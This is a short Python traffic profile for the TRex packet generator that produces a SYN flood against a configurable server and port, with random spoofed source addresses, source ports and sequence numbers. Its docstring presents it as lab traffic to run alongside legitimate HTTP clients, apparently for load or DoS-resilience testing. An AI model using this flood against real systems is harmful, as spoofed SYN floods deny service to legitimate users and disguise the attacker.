# SPDX-License-Identifier: Apache-2.0
"""A SYN flood: sources, ports and sequence numbers are random, the server's port is open. Run it beside http.py, whose
clients are the honest ones, on other ports of TRex or from another TRex.

start -f syn_flood.py -m 50% -p 0 -t --server 10.2.0.1 --port 80
"""

import argparse
import os

from trex_stl_lib.api import *


class SynFlood(object):
    def get_streams(self, direction=0, tunables=(), **kwargs):
        parser = argparse.ArgumentParser(prog=os.path.basename(__file__))
        parser.add_argument("--sources", default="1.0.0.1-9.255.255.254", help="addresses, first-last")
        parser.add_argument("--server", default="10.2.0.1", help="address that is flooded")
        parser.add_argument("--port", type=int, default=80, help="its open TCP port (80)")
        args = parser.parse_args(tunables)
        if direction != 0:
            return []
        first, last = args.sources.split("-")
        vm = STLVM()
        vm.var(name="source", min_value=first, max_value=last, size=4, op="random")
        vm.var(name="port", min_value=1025, max_value=65535, size=2, op="random")
        vm.var(name="number", min_value=0, max_value=4294967295, size=4, op="random")
        vm.write(fv_name="source", pkt_offset="IP.src")
        vm.write(fv_name="port", pkt_offset="TCP.sport")
        vm.write(fv_name="number", pkt_offset="TCP.seq")
        vm.fix_chksum_hw(l3_offset="IP", l4_offset="TCP", l4_type=CTRexVmInsFixHwCs.L4_TYPE_TCP)
        packet = Ether() / IP(src=first, dst=args.server) / TCP(sport=1025, dport=args.port, flags="S")
        pad = max(0, 60 - len(packet)) * "\0"
        return [STLStream(packet=STLPktBuilder(pkt=packet / pad, vm=vm), mode=STLTXCont())]


def register():
    return SynFlood()
